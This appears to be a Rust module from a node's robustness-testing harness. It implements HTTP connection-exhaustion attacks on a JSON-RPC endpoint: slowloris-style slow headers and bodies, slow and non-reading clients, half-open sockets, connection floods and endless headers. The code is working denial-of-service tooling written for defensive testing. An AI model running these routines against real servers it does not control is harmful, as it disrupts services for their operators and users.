//! Attacks over HTTP by connections alone, whatever they request: slow, half-open, and many.

use std::{
    net::{IpAddr, SocketAddr},
    time::Duration,
};

use anyhow::{Context, Result};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    time::{sleep, timeout},
};

use super::attack::{Attack, AttackContext, AttackInfo, AttackSurface, FnAttack};

pub(super) const ALL: &[&dyn Attack] = &[
    &SLOW_HEADERS,
    &SLOW_BODY,
    &SLOW_READER,
    &HALF_OPEN,
    &CONNECTION_FLOOD,
    &ENDLESS_HEADERS,
    &PIPELINE_UNREAD,
];

/// Attackers of one attack, with one connection each: more than the node's slots for callers.
const MANY: usize = 400;
pub(super) const PATIENCE: Duration = Duration::from_secs(60);

/// Opens a connection from an attacker's address.
pub(super) async fn connect(to: SocketAddr, from: IpAddr) -> Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_reuseaddr(true)?;
    socket.bind((from, 0).into())?;
    timeout(Duration::from_secs(5), socket.connect(to))
        .await
        .context("the connection attempt timed out")?
        .map_err(Into::into)
}

/// Returns the head of a JSON-RPC request with a body of `bytes` bytes.
pub(super) fn post(bytes: usize) -> String {
    format!(
        "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: {bytes}\r\n\r\n"
    )
}

/// Sends a JSON-RPC body and reads the head of the answer, and then all that comes within a while.
pub(super) async fn call(field: &AttackContext, from: IpAddr, body: &str) -> Result<()> {
    let mut stream = connect(field.target.api, from).await?;
    stream.write_all(post(body.len()).as_bytes()).await?;
    stream.write_all(body.as_bytes()).await?;
    let mut answer = vec![0; 64 << 10];
    let status = timeout(PATIENCE, stream.read(&mut answer)).await.context("the answer timed out")??;
    anyhow::ensure!(status > 0, "the node hung up");
    // Reads on until no more bytes come, so that the node has sent its answer to a reader.
    while let Ok(Ok(1..)) = timeout(Duration::from_millis(50), stream.read(&mut answer)).await {}
    Ok(())
}

/// Waits until the node hangs up, at most [`PATIENCE`].
pub(super) async fn linger(stream: &mut TcpStream) {
    let mut rest = [0; 1024];
    let _ = timeout(PATIENCE, stream.read(&mut rest)).await;
}

const SLOW_HEADERS: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "slow-headers",
        "400 connections that send one byte of their headers per second",
    )
    .quick(),
    start: |field| {
        Box::pin(field.swarm(MANY, Duration::from_millis(200), |field, index| async move {
            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
            stream.write_all(b"POST / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ").await?;
            field.tally.done();
            loop {
                sleep(Duration::from_secs(1)).await;
                stream.write_all(b"a").await?;
            }
        }))
    },
};

const SLOW_BODY: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "slow-body",
        "400 connections that announce a body and send one byte of it per second",
    ),
    start: |field| {
        Box::pin(field.swarm(MANY, Duration::from_millis(200), |field, index| async move {
            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
            stream.write_all(post(1 << 20).as_bytes()).await?;
            field.tally.done();
            loop {
                stream.write_all(b"[").await?;
                sleep(Duration::from_secs(1)).await;
            }
        }))
    },
};

/// Returns a request with a long answer: a batch with all of its transactions.
fn heavy_question(field: &AttackContext) -> String {
    let number = field.target.heavy_batch;
    format!(r#"{{"jsonrpc":"2.0","id":1,"method":"eth_getBlockByNumber","params":["{number:#x}",true]}}"#)
}

const SLOW_READER: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "slow-reader",
        "60 connections that request a long answer and read 100 bytes of it per second",
    ),
    start: |field| {
        Box::pin(field.swarm(60, Duration::from_millis(500), |field, index| async move {
            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
            let body = heavy_question(&field);
            stream.write_all((post(body.len()) + &body).as_bytes()).await?;
            let mut some = [0; 100];
            loop {
                anyhow::ensure!(stream.read(&mut some).await? > 0, "the node hung up");
                field.tally.done();
                sleep(Duration::from_secs(1)).await;
            }
        }))
    },
};

const PIPELINE_UNREAD: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "pipeline-unread",
        "60 connections that keep requesting a long answer and read nothing",
    ),
    start: |field| {
        Box::pin(field.swarm(60, Duration::from_millis(500), |field, index| async move {
            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
            let body = heavy_question(&field);
            let request = post(body.len()) + &body;
            // A write times out once the kernel's buffers are full, because the node does not read on.
            while let Ok(written) = timeout(PATIENCE, stream.write_all(request.as_bytes())).await {
                written?;
                field.tally.done();
                sleep(Duration::from_millis(100)).await;
            }
            Ok(())
        }))
    },
};

const HALF_OPEN: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "half-open",
        "1,000 silent connections, half of them closed for writing",
    ),
    start: |field| {
        Box::pin(field.swarm(1_000, Duration::from_secs(1), |field, index| async move {
            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
            field.tally.done();
            if index % 2 == 0 {
                stream.shutdown().await?;
            }
            linger(&mut stream).await;
            Ok(())
        }))
    },
};

const CONNECTION_FLOOD: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "connection-flood",
        "2,000 connections a second that are opened and dropped",
    ),
    start: |field| {
        Box::pin(field.swarm(40, Duration::from_millis(20), |field, index| async move {
            let stream = connect(field.target.api, AttackContext::address(index)).await?;
            // Resets instead of closing, so that no port of the attackers stays in TIME_WAIT.
            stream.set_zero_linger()?;
            Ok(())
        }))
    },
};

const ENDLESS_HEADERS: FnAttack = FnAttack {
    info: AttackInfo::new(
        AttackSurface::Http,
        "endless-headers",
        "50 connections that send endless headers, as fast as the node reads",
    ),
    start: |field| {
        Box::pin(field.swarm(50, Duration::from_millis(100), |field, index| async move {
            let mut stream = connect(field.target.api, AttackContext::address(index)).await?;
            stream.write_all(b"POST / HTTP/1.1\r\nHost: localhost\r\n").await?;
            let line = format!("X-Endless: {}\r\n", "a".repeat(8_000));
            loop {
                stream.write_all(line.as_bytes()).await?;
                field.tally.done();
                sleep(Duration::from_millis(5)).await;
            }
        }))
    },
};
